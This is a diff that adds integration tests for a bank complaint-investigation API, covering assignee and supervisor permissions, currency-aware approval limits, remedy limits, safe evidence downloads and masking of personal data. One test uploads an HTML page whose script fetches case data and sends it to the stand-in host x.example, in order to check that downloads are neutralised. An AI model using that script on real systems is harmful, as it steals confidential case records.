@@ -122,6 +122,19 @@ describe('investigation: case work from opening to evidence, tasks, journal and 
     return { caseId: opened.id, complaintId: opened.complaintId, department, investigator };
   };
 
+  /** Facts and root cause recorded by the assigned investigator, so a decision can be proposed. */
+  const withFindings = async (caseId: string, investigator: string, facts = ['11月20日跨行转账被重复扣款']) => {
+    const res = await call('PUT', `/v1/cases/${caseId}/findings`, await token('investigator', { subject: investigator }), { facts, liability: 'bank', rootCause: { code: 'system', detail: '清算接口超时后重试未做幂等' } });
+    expect(res.status).toBe(200);
+  };
+
+  /** What the case's rows, transitions and events are, to show a refused step changed nothing. */
+  const recordOf = async (caseId: string, complaintId: string) => ({
+    row: await sql(`SELECT * FROM cases WHERE id = $1`, [caseId]),
+    transitions: await sql(`SELECT * FROM case_transitions WHERE case_id = $1 ORDER BY id`, [caseId]),
+    outbox: await sql(`SELECT seq FROM outbox WHERE message_key = $1 ORDER BY seq`, [complaintId]),
+  });
+
   const outboxOf = async <P = Record<string, unknown>>(complaintId: string, eventType: string): Promise<EventEnvelope<P>[]> => {
     const rows = await sql<{ value: Buffer }>(`SELECT value FROM outbox WHERE message_key = $1 AND headers->>'event-type' = $2 ORDER BY seq`, [complaintId, eventType]);
     return rows.map((r) => JSON.parse(r.value.toString('utf8')) as EventEnvelope<P>);
@@ -225,6 +238,171 @@ describe('investigation: case work from opening to evidence, tasks, journal and 
     expect(await sql(`SELECT * FROM cases WHERE id = $1`, [waiting.id])).toEqual(rowBefore);
     expect(await sql(`SELECT * FROM case_transitions WHERE case_id = $1`, [waiting.id])).toEqual(transitionsBefore);
     expect(await sql(`SELECT seq FROM outbox WHERE message_key = $1`, [waiting.complaintId])).toEqual(outboxBefore);
+  });
+
+  it('escalationAndClosure_byAnInvestigatorWhoIsNotTheAssignee_areRefused403_whileASupervisorMayDoBoth', async () => {
+    const { caseId, complaintId, investigator } = await assignedCase();
+    const colleague = await token('investigator', { subject: `inv-${tag()}` });
+    const supervisor = await token('approver', { subject: `sup-${tag()}` });
+
+    const before = await recordOf(caseId, complaintId);
+    const escalation = await call<{ type: string; detail: string; action: string }>('POST', `/v1/cases/${caseId}/escalation`, colleague, { reason: '需上级部门处理' });
+    expect(escalation.status).toBe(403);
+    expect(escalation.contentType).toMatch(/^application\/problem\+json/);
+    expect(escalation.body.type).toMatch(/case-not-assigned$/);
+    expect(escalation.body).toMatchObject({ action: 'escalate' });
+    expect(escalation.body.detail).toContain(`only the assigned investigator (${investigator}) or a supervisor may escalate`);
+    expect(await recordOf(caseId, complaintId)).toEqual(before);
+
+    // Answered at once (low severity, no money), then the colleague tries to close it.
+    await withFindings(caseId, investigator);
+    const issued = await call('POST', `/v1/cases/${caseId}/resolution`, await token('investigator', { subject: investigator }), { outcome: 'upheld', explanation: '经核实系统故障导致重复扣款，已更正。', actions: ['explanation', 'correction'] });
+    expect(issued.body).toMatchObject({ status: 'responded' });
+    const answered = await recordOf(caseId, complaintId);
+    const closure = await call<{ type: string }>('POST', `/v1/cases/${caseId}/closure`, colleague, { reason: '回访客户表示满意' });
+    expect(closure.status).toBe(403);
+    expect(closure.body.type).toMatch(/case-not-assigned$/);
+    expect(await recordOf(caseId, complaintId)).toEqual(answered);
+
+    // A supervisor is not the assignee either, and may.
+    const closed = await call('POST', `/v1/cases/${caseId}/closure`, supervisor, { reason: '回访客户表示满意' });
+    expect(closed.status).toBe(200);
+    expect(closed.body).toMatchObject({ status: 'closed' });
+
+    const other = await assignedCase();
+    const escalated = await call('POST', `/v1/cases/${other.caseId}/escalation`, supervisor, { reason: '需上级部门处理' });
+    expect(escalated.status).toBe(200);
+    expect(escalated.body).toMatchObject({ level: 2 });
+  });
+
+  it('resolutionApproval_aLimitIsReadInTheRemedysCurrency_soTheSameTokenApprovesCny5000ButNotUsd5000', async () => {
+    // The token's 10,000.00 names no currency; in USD the approval matrix allows an approver 3,000.00.
+    const approver = await token('approver', { subject: `sup-${tag()}`, approvalLimitMinor: 1_000_000 });
+    const proposedIn = async (currency: string) => {
+      const { caseId, complaintId, investigator } = await assignedCase();
+      await withFindings(caseId, investigator);
+      const proposed = await call('POST', `/v1/cases/${caseId}/resolution`, await token('investigator', { subject: investigator }), {
+        outcome: 'upheld',
+        explanation: '转账延误造成直接损失，予以赔偿。',
+        actions: ['explanation', 'compensation'],
+        remedy: { type: 'loss-reimbursement', amount: { amountMinor: 500_000, currency } },
+      });
+      expect(proposed.body).toMatchObject({ status: 'awaiting-approval' });
+      return { caseId, complaintId };
+    };
+
+    const usd = await proposedIn('USD');
+    const before = await recordOf(usd.caseId, usd.complaintId);
+    const refused = await call<{ type: string; detail: string }>('POST', `/v1/cases/${usd.caseId}/resolution/decision`, approver, { decision: 'approve' });
+    expect(refused.status).toBe(403);
+    expect(refused.contentType).toMatch(/^application\/problem\+json/);
+    expect(refused.body.type).toMatch(/case-authority-limit$/);
+    expect(refused.body.detail).toContain('authority limit of 300000 USD');
+    expect(await recordOf(usd.caseId, usd.complaintId)).toEqual(before);
+
+    const cny = await proposedIn('CNY');
+    const approved = await call('POST', `/v1/cases/${cny.caseId}/resolution/decision`, approver, { decision: 'approve' });
+    expect(approved.status).toBe(200);
+    expect(approved.body).toMatchObject({ status: 'responded' });
+  });
+
+  it('resolution_promisingARemedyCompensationWouldRefuse_isRefused422NamingTheFieldAndChangesNothing', async () => {
+    const { caseId, complaintId, investigator } = await assignedCase();
+    await withFindings(caseId, investigator);
+    const bearer = await token('investigator', { subject: investigator });
+    const before = await recordOf(caseId, complaintId);
+    const propose = (type: string, amountMinor: number, currency: string) =>
+      call<{ type: string; detail: string; errors: { path: string; message: string }[] }>('POST', `/v1/cases/${caseId}/resolution`, bearer, {
+        outcome: 'upheld',
+        explanation: '系统重复收费，予以退还。',
+        actions: ['explanation', 'refund'],
+        remedy: { type, amount: { amountMinor, currency } },
+      });
+
+    // Investigation's approval policy has a threshold for EUR; compensation pays no remedy in it.
+    const euro = await propose('fee-refund', 10_000, 'EUR');
+    expect(euro.status).toBe(422);
+    expect(euro.contentType).toMatch(/^application\/problem\+json/);
+    expect(euro.body.type).toMatch(/case-invalid$/);
+    expect(euro.body.errors).toEqual([{ path: 'remedy.amount.currency', message: 'Fee refund cannot be granted in EUR' }]);
+
+    const tooMuch = await propose('fee-waiver', 1_000_01, 'CNY');
+    expect(tooMuch.status).toBe(422);
+    expect(tooMuch.body.errors).toEqual([{ path: 'remedy.amount.amountMinor', message: 'CNY 1,000.01 is above the catalogue limit for Fee waiver (CNY 1,000.00)' }]);
+    expect(await recordOf(caseId, complaintId)).toEqual(before);
+
+    // Within the catalogue, the same proposal goes through.
+    const within = await propose('fee-waiver', 1_000_00, 'CNY');
+    expect(within.status).toBe(201);
+  });
+
+  it('evidenceDownload_isAnAttachment_neverSniffedOrRun_andKeepsOnlyASafeMediaType', async () => {
+    const { caseId, investigator } = await assignedCase();
+    const bearer = await token('investigator', { subject: investigator });
+    const upload = async (contentType: string, bytes: Buffer) => {
+      const res = await fetch(`${investigation.baseUrl}/v1/cases/${caseId}/evidence/files?kind=document&sourceSystem=branch-scanner&description=statement`, {
+        method: 'POST',
+        headers: { authorization: `Bearer ${bearer}`, 'content-type': contentType },
+        body: bytes,
+      });
+      expect(res.status).toBe(201);
+      return ((await res.json()) as { id: string }).id;
+    };
+    const download = (evidenceId: string) => fetch(`${investigation.baseUrl}/v1/cases/${caseId}/evidence/${evidenceId}/content`, { headers: { authorization: `Bearer ${bearer}` } });
+
+    const page = Buffer.from('<html><script>fetch("/v1/cases").then((r) => r.text()).then((t) => new Image().src = "//x.example/?" + t)</script></html>');
+    const html = await upload('text/html; charset=utf-8', page);
+    const served = await download(html);
+    expect(served.status).toBe(200);
+    expect(served.headers.get('content-type')).toBe('application/octet-stream');
+    expect(served.headers.get('content-disposition')).toBe(`attachment; filename*=UTF-8''document-${html}.bin`);
+    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(served.headers.get('content-security-policy')).toMatch(/(^|;\s*)sandbox(;|$)/);
+    expect(Buffer.from(await served.arrayBuffer())).toEqual(page);
+    // The register still says what the uploader declared.
+    expect(await sql(`SELECT content_type FROM case_evidence WHERE id = $1`, [html])).toEqual([{ content_type: 'text/html; charset=utf-8' }]);
+
+    const pdf = await upload('application/pdf', Buffer.from('%PDF-1.7 对账单'));
+    const statement = await download(pdf);
+    expect(statement.headers.get('content-type')).toBe('application/pdf');
+    expect(statement.headers.get('content-disposition')).toBe(`attachment; filename*=UTF-8''document-${pdf}.pdf`);
+    expect(statement.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(statement.headers.get('content-security-policy')).toMatch(/(^|;\s*)sandbox(;|$)/);
+  });
+
+  it('caseFreeText_isWholeToTheInvestigator_andHasItsNumbersMaskedForAnAuditor', async () => {
+    const { caseId, complaintId, investigator } = await assignedCase();
+    const bearer = await token('investigator', { subject: investigator });
+    // Not the sealing test's numbers: the issued explanation goes to the customer, in clear, through the outbox.
+    const phone = '13700005678';
+    const card = '6222020000000000123';
+    await withFindings(caseId, investigator, [`客户回拨号码 ${phone}`, '11月20日跨行转账被重复扣款']);
+    const task = await call<{ id: string }>('POST', `/v1/cases/${caseId}/tasks`, bearer, { department: 'operations', request: `请核实卡号 ${card} 的扣款`, dueBy: new Date(Date.now() + 86_400_000).toISOString() });
+    expect(task.status).toBe(201);
+    expect((await call('POST', `/v1/cases/${caseId}/tasks/${task.body.id}/result`, bearer, { result: `卡号 ${card} 重复扣款已确认` })).status).toBe(200);
+    const issued = await call('POST', `/v1/cases/${caseId}/resolution`, bearer, { outcome: 'upheld', explanation: `卡号 ${card} 的重复扣款已更正`, actions: ['explanation', 'correction'] });
+    expect(issued.body).toMatchObject({ status: 'responded' });
+
+    type CaseText = { findings: { facts: string[] }; proposal: { explanation: string }; resolution: { explanation: string }; tasks: { request: string; result: string }[] };
+    const whole = await call<CaseText>('GET', `/v1/cases/${caseId}`, bearer);
+    expect(whole.status).toBe(200);
+    expect(whole.body.findings.facts[0]).toBe(`客户回拨号码 ${phone}`);
+    expect(whole.body.proposal.explanation).toContain(card);
+    expect(whole.body.resolution.explanation).toContain(card);
+    expect(whole.body.tasks[0]).toMatchObject({ request: `请核实卡号 ${card} 的扣款`, result: `卡号 ${card} 重复扣款已确认` });
+
+    const auditor = await token('auditor', { subject: 'auditor-1' });
+    const masked = await call<CaseText>('GET', `/v1/cases/${caseId}`, auditor);
+    expect(masked.status).toBe(200);
+    expect(masked.body.findings.facts).toEqual(['客户回拨号码 *******5678', '11月20日跨行转账被重复扣款']);
+    expect(masked.body.tasks[0]).toMatchObject({ request: `请核实卡号 ${'*'.repeat(15)}0123 的扣款`, result: `卡号 ${'*'.repeat(15)}0123 重复扣款已确认` });
+    for (const text of [masked.body.proposal.explanation, masked.body.resolution.explanation]) expect(text).toBe(`卡号 ${'*'.repeat(15)}0123 的重复扣款已更正`);
+    const listed = await call<CaseText[]>('GET', `/v1/cases?complaintId=${complaintId}`, auditor);
+    expect(listed.body[0].findings.facts[0]).toBe('客户回拨号码 *******5678');
+    expect(JSON.stringify(listed.body)).not.toContain(card);
+    // Approvers see no personal data in clear either.
+    const approver = await call<CaseText>('GET', `/v1/cases/${caseId}`, await token('approver', { subject: `sup-${tag()}` }));
+    expect(JSON.stringify(approver.body)).not.toMatch(new RegExp(`${phone}|${card}`));
   });
 
   it('evidence_whoseStoredBytesChanged_isRefusedAndTheFailureIsOnTheCustodyLog', async () => {
